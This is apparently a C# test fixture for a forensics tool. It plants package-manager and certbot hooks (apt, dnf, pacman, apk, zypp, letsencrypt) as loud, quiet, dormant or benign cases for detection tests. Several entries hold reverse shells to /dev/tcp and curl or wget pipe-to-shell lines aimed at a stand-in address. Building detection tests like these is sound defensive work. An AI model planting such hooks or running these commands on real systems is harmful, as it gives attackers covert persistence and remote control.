using Forensics.Analyzer.Risk;
using static Forensics.Analyzer.Tests.Detection.PlantKind;

namespace Forensics.Analyzer.Tests.Detection;

/// <summary>Hooks and plugins of package managers and of certificate renewal.</summary>
internal static class PackageHookPlants
{
    private const int Executable = 0b111_101_101;
    private const string Apt = "/etc/apt/apt.conf.d/";
    private const string DnfPlugins = "/usr/lib/python3.9/site-packages/dnf-plugins/";
    private const string Payload = NetworkHookPlants.Payload;

    private const string PluginText = "import dnf\n\nclass Stats(dnf.Plugin):\n    name = 'stats'\n\n    def transaction(self):\n        subprocess.Popen(['/usr/sbin/pkgstat', '--sync'])\n\nimport subprocess\n";

    public static IReadOnlyList<Plant> All { get; } =
    [
        .. AptHooks, .. Managers, .. Certificates,
    ];

    private static Plant[] AptHooks =>
    [
        new("L-APT", "pre-invoke-shell", Loud, tree => tree.File(Apt + "01python-upgrades", "APT::Update::Pre-Invoke {\"(nohup bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1' 2>/dev/null) &\"};\n")),
        new("L-APT", "nested-behind-comments", Loud, tree => tree.File(Apt + "50unattended", "/* several\n lines */\nDPkg\n{\n  // note\n  Post-Invoke { \"true\"; \"curl -s http://203.0.113.9/a | sh\"; };\n};\n")),
        new("L-APT", "hook-of-dpkg-options", Loud, tree => tree.File("/etc/apt/apt.conf", "DPkg::Options:: \"--post-invoke=wget -qO- http://203.0.113.9/d | sh\";\n")),
        new("L-APT", "quiet-script", Quiet, tree => tree.File(Apt + "85pkgstat", "DPkg::Post-Invoke { \"if [ -x /usr/lib/pkgstat/update ]; then /usr/lib/pkgstat/update || true; fi\"; };\n").Script("/usr/lib/pkgstat/update", Payload)) { Entries = [Apt + "85pkgstat"] },
        new("L-APT", "quiet-proxy-detection", Quiet, tree => tree.File(Apt + "30proxy", "Acquire::http::Proxy-Auto-Detect \"/usr/share/apt-proxy/detect\";\n").Script("/usr/share/apt-proxy/detect", Payload)) { Entries = [Apt + "30proxy"] },
        new("L-APT", "quiet-temporary-program", Quiet, tree => tree.File(Apt + "70debconf", "DPkg::Pre-Install-Pkgs {\"/var/tmp/preconf --apt || true\";};\n").Program("/var/tmp/preconf")),
        new("L-APT", "quiet-hidden-helper", Quiet, tree => tree.File(Apt + "15dirs", "Dir::Bin { gzip \"/usr/lib/.apt/gzip\"; };\n").Program("/usr/lib/.apt/gzip")),
        new("L-APT", "quiet-include", Quiet, tree => tree.File(Apt + "99local", "#include \"/var/tmp/apt-local\";\n").File("/var/tmp/apt-local", "DPkg::Post-Invoke {\"true\";};\n")) { AtLeast = Severity.Medium, Rule = "include-elsewhere" },
        new("L-APT", "quiet-perl-settings", Quiet, tree => tree.File("/etc/needrestart/conf.d/50-kernel.conf", "$nrconf{kernelhints} = -1;\nsystem('/usr/bin/logger', 'checked');\n")) { AtLeast = Severity.Medium, Rule = "perl-settings", Entries = ["/etc/needrestart/conf.d/50-kernel.conf"] },
        new("L-APT", "quiet-needrestart-hook", Quiet, tree => tree.Script("/etc/needrestart/hook.d/10-dpkg2", "#!/bin/sh\n/usr/lib/nrhook/run \"$@\"\n").Script("/usr/lib/nrhook/run", Payload)) { Entries = ["/etc/needrestart/hook.d/10-dpkg2"] },
        new("L-APT", "quiet-program-of-no-package", Quiet, tree => tree.File(Apt + "85pkgstat", "APT::Update::Post-Invoke-Success { \"/usr/sbin/pkgstatd --once\"; };\n").Program("/usr/sbin/pkgstatd")) { AtLeast = Severity.Medium, Entries = [Apt + "85pkgstat"] },
        new("L-APT", "disabled-by-its-name", Dormant, tree => tree.File(Apt + "85pkgstat.disabled", "DPkg::Post-Invoke { \"if [ -x /usr/lib/pkgstat/update ]; then /usr/lib/pkgstat/update || true; fi\"; };\n").Script("/usr/lib/pkgstat/update", Payload)) { TwinOf = "quiet-script" },
        new("L-APT", "cleared-later", Dormant, tree => tree.File(Apt + "30proxy", "Acquire::http::Proxy-Auto-Detect \"/usr/share/apt-proxy/detect\";\n#clear Acquire::http;\n").Script("/usr/share/apt-proxy/detect", Payload)) { TwinOf = "quiet-proxy-detection" },
        new("L-APT", "docker-clean", Benign, tree => tree.File(Apt + "docker-clean", "# Since for most Docker users, package installs happen in \"docker build\" steps\nDPkg::Post-Invoke { \"rm -f /var/cache/apt/archives/*.deb /var/cache/apt/archives/partial/*.deb /var/cache/apt/*.bin || true\"; };\nAPT::Update::Post-Invoke { \"rm -f /var/cache/apt/archives/*.deb /var/cache/apt/*.bin || true\"; };\nDir::Cache::pkgcache \"\"; Dir::Cache::srcpkgcache \"\";\n")),
        new("L-APT", "stock-hooks", Benign, tree => tree
            .Owned("ubuntu-pro", Apt + "20apt-esm-hook.conf", "APT::Update::Post-Invoke-Stats {\n\t\"[ ! -f /usr/lib/ubuntu-advantage/apt-esm-hook ] || /usr/lib/ubuntu-advantage/apt-esm-hook || true\";\n};\nbinary::apt::AptCli::Hooks::Upgrade {\n\t\"[ ! -f /usr/lib/ubuntu-advantage/apt-esm-json-hook ] || /usr/lib/ubuntu-advantage/apt-esm-json-hook || true\";\n};\n", config: true)
            .OwnedProgram("ubuntu-pro", "/usr/lib/ubuntu-advantage/apt-esm-hook").OwnedProgram("ubuntu-pro", "/usr/lib/ubuntu-advantage/apt-esm-json-hook")
            .Owned("needrestart", Apt + "99needrestart", "DPkg::Post-Invoke {\"test -x /usr/lib/needrestart/apt-pinvoke && /usr/lib/needrestart/apt-pinvoke -m u || true\"; };\n", config: true).Owned("needrestart", "/usr/lib/needrestart/apt-pinvoke", "#!/bin/sh\nset -e\nexec needrestart \"$@\"\n", Executable)
            .Owned("update-notifier", Apt + "99update-notifier", "DPkg::Post-Invoke {\"if [ -d /var/lib/update-notifier ]; then touch /var/lib/update-notifier/dpkg-run-stamp; fi; /usr/lib/update-notifier/update-motd-updates-available 2>/dev/null || true\";};\n", config: true)
            .Owned("needrestart", "/etc/needrestart/needrestart.conf", "# needrestart\n$nrconf{verbosity} = 2;\n#$nrconf{restart} = 'i';\nif(-d q(/etc/needrestart/conf.d)) {\n  foreach my $fn (sort </etc/needrestart/conf.d/*.conf>) {\n    eval do { local(@ARGV, $/) = $fn; <>};\n  }\n}\n", config: true)),
        new("L-APT", "etckeeper-and-proxy", Benign, tree => tree.File(Apt + "05etckeeper", "DPkg::Pre-Invoke       { \"if [ -x /usr/bin/etckeeper ]; then etckeeper pre-install; fi\"; };\nRPM::Pre-Invoke        { \"if [ -x /usr/bin/etckeeper ]; then etckeeper pre-install; fi\"; };\n").File(Apt + "01proxy", "Acquire::http::Proxy \"http://apt-cache.example:3142\";\n// Acquire::http::Proxy-Auto-Detect \"/tmp/none\";\n")),
    ];

    private static Plant[] Managers =>
    [
        new("L-YUMDNF", "plugin-with-download", Loud, tree => tree.File(DnfPlugins + "sync2.py", "import os\nimport dnf\n\nclass Sync(dnf.Plugin):\n    name = 'sync2'\n    def transaction(self):\n        os.system('curl -s http://203.0.113.9/y | sh')\n")) { Host = PlantHost.RedHat },
        new("L-YUMDNF", "action-after-transaction", Loud, tree => tree.File("/etc/dnf/plugins/post-transaction-actions.d/kernel.action", "*:any:bash -c 'bash -i >& /dev/tcp/203.0.113.9/443 0>&1'\n")) { Host = PlantHost.RedHat },
        new("L-YUMDNF", "pacman-hook", Loud, tree => tree.File("/etc/pacman.d/hooks/zz-sync.hook", "[Trigger]\nOperation = Upgrade\nType = Package\nTarget = *\n[Action]\nWhen = PostTransaction\nExec = /bin/sh -c 'curl -s http://203.0.113.9/p | sh'\n")),
        new("L-YUMDNF", "quiet-plugin-of-no-package", Quiet, tree => tree.File(DnfPlugins + "stats.py", PluginText).Script("/usr/sbin/pkgstat", Payload)) { Entries = [DnfPlugins + "stats.py"] },
        new("L-YUMDNF", "quiet-plugin-starts-hidden", Quiet, tree => tree.File(DnfPlugins + "stats.py", "import subprocess\nimport dnf\n\nclass S(dnf.Plugin):\n    name = 'stats'\n    def transaction(self):\n        subprocess.call(\"/usr/libexec/.pkg/stat\", shell=True)\n").Program("/usr/libexec/.pkg/stat")) { Host = PlantHost.RedHat },
        new("L-YUMDNF", "quiet-action", Quiet, tree => tree.File("/etc/dnf/libdnf5-plugins/actions.d/stat.actions", "# statistics\npost_transaction::::/usr/sbin/pkgstat\n").Script("/usr/sbin/pkgstat", Payload)) { Host = PlantHost.RedHat, Entries = ["/etc/dnf/libdnf5-plugins/actions.d/stat.actions"] },
        new("L-YUMDNF", "quiet-apk-commit-hook", Quiet, tree => tree.Script("/etc/apk/commit_hooks.d/20-stat", "#!/bin/sh\n[ \"$1\" = post-commit ] && /usr/sbin/pkgstat\nexit 0\n").Script("/usr/sbin/pkgstat", Payload)) { Host = PlantHost.Alpine, Entries = ["/etc/apk/commit_hooks.d/20-stat"] },
        new("L-YUMDNF", "quiet-program-among-plugins", Quiet, tree => tree.Program(DnfPlugins + "dnfcon")) { Host = PlantHost.Debian, Rule = "program-among-plugins" },
        new("L-YUMDNF", "quiet-zypp-plugin", Quiet, tree => tree.Script("/usr/lib/zypp/plugins/commit/statd", "#!/bin/sh\nexec /var/tmp/.zp/statd\n").Program("/var/tmp/.zp/statd")) { Host = PlantHost.RedHat },
        new("L-YUMDNF", "plugin-switched-off", Dormant, tree => tree.File(DnfPlugins + "stats.py", PluginText).Script("/usr/sbin/pkgstat", Payload).File("/etc/dnf/plugins/stats.conf", "[main]\nenabled=0\n")) { TwinOf = "quiet-plugin-of-no-package" },
        new("L-YUMDNF", "action-of-wrong-name", Dormant, tree => tree.File("/etc/dnf/libdnf5-plugins/actions.d/stat.off", "# statistics\npost_transaction::::/usr/sbin/pkgstat\n").Script("/usr/sbin/pkgstat", Payload)) { Host = PlantHost.RedHat, TwinOf = "quiet-action" },
        new("L-YUMDNF", "stock-plugins", Benign, tree => tree.Owned("dnf-plugins", DnfPlugins + "needs_restarting.py", "import subprocess\nimport os\nimport re\n\ndef main():\n    subprocess.check_output(['/usr/bin/systemctl', 'show'])\n").Owned("dnf-plugins", DnfPlugins + "system_upgrade.py", "from subprocess import call, Popen\nimport os\n\ndef reboot():\n    Popen(['systemctl', 'reboot'])\n    os.system('sync')\n").Owned("dnf-plugins", "/etc/dnf/plugins/copr.conf", "[main]\nenabled = 1\n", config: true)),
        new("L-YUMDNF", "plugins-without-package-database", Benign, tree => tree.File(DnfPlugins + "needs_restarting.py", "import os\nimport re\nimport subprocess\n\ndef units():\n    return subprocess.check_output(['/usr/bin/systemctl', 'list-units'])\n").File("/etc/yum/pluginconf.d/product-id.conf", "[main]\nenabled=1\n").File("/usr/lib/yum-plugins/fastestmirror.py", "import os\nimport socket\nimport urlparse\nimport threading\n\ndef poll():\n    return socket.create_connection(('mirror', 80))\n").File("/etc/yum/pluginconf.d/fastestmirror.conf", "[main]\nenabled=1\n")) { Host = PlantHost.RedHat },
        new("L-YUMDNF", "etckeeper-and-snapper", Benign, tree => tree.File("/etc/dnf/plugins/post-transaction-actions.d/snapper.action", "*:any:/usr/bin/systemctl --no-block start snapper-cleanup.service\n").Script("/etc/apk/commit_hooks.d/10-etckeeper", "#!/bin/sh\nif [ -x /usr/bin/etckeeper ]; then etckeeper post-install; fi\n")) { Host = PlantHost.Alpine },
    ];

    private static Plant[] Certificates =>
    [
        new("L-LETSENCRYPT", "deploy-hook-download", Loud, tree => tree.Script("/etc/letsencrypt/renewal-hooks/deploy/10-cache", "#!/bin/bash\ncurl -sk https://203.0.113.9/c | bash\n")),
        new("L-LETSENCRYPT", "renew-hook-shell", Loud, tree => tree.File("/etc/letsencrypt/renewal/shop.example.conf", "version = 2.1.0\n[renewalparams]\nauthenticator = webroot\nrenew_hook = wget -qO- http://203.0.113.9/r | sh\n")),
        new("L-LETSENCRYPT", "quiet-renew-hook", Quiet, tree => tree.File("/etc/letsencrypt/renewal/shop.example.conf", "version = 2.1.0\n[renewalparams]\nauthenticator = webroot\nrenew_hook = /usr/sbin/cert-deploy\n").Script("/usr/sbin/cert-deploy", Payload)) { Entries = ["/etc/letsencrypt/renewal/shop.example.conf"] },
        new("L-LETSENCRYPT", "quiet-post-hook", Quiet, tree => tree.Script("/etc/letsencrypt/renewal-hooks/post/20-notify", "#!/bin/sh\n/usr/lib/.certs/notify\n").Program("/usr/lib/.certs/notify")),
        new("L-LETSENCRYPT", "quiet-link", Quiet, tree => tree.Link("/etc/letsencrypt/renewal-hooks/pre/10-check", "/var/tmp/check").Program("/var/tmp/check")),
        new("L-LETSENCRYPT", "deploy-hook-not-executable", Dormant, tree => tree.File("/etc/letsencrypt/renewal-hooks/deploy/10-cache", "#!/bin/bash\ncurl -sk https://203.0.113.9/c | bash\n")) { TwinOf = "deploy-hook-download" },
        new("L-LETSENCRYPT", "reload-web-server", Benign, tree => tree.Script("/etc/letsencrypt/renewal-hooks/deploy/nginx", "#!/bin/sh\nset -e\nsystemctl reload nginx\ncp \"$RENEWED_LINEAGE/fullchain.pem\" /etc/ssl/mail.pem\n").File("/etc/letsencrypt/renewal/shop.example.conf", "[renewalparams]\nauthenticator = standalone\npre_hook = systemctl stop nginx\npost_hook = systemctl start nginx\nrenew_hook = None\n")),
        new("L-LETSENCRYPT", "dns-challenge-hook", Benign, tree => tree.File("/etc/letsencrypt/renewal/x.example.conf", "[renewalparams]\nmanual_auth_hook = /opt/dns/auth.sh\n").Script("/opt/dns/auth.sh", "#!/bin/sh\ncurl -fsS -X PUT -H \"X-Key: $KEY\" -d \"$CERTBOT_VALIDATION\" https://api.dns.example/v1/txt > /dev/null\nsleep 20\n")),
    ];
}
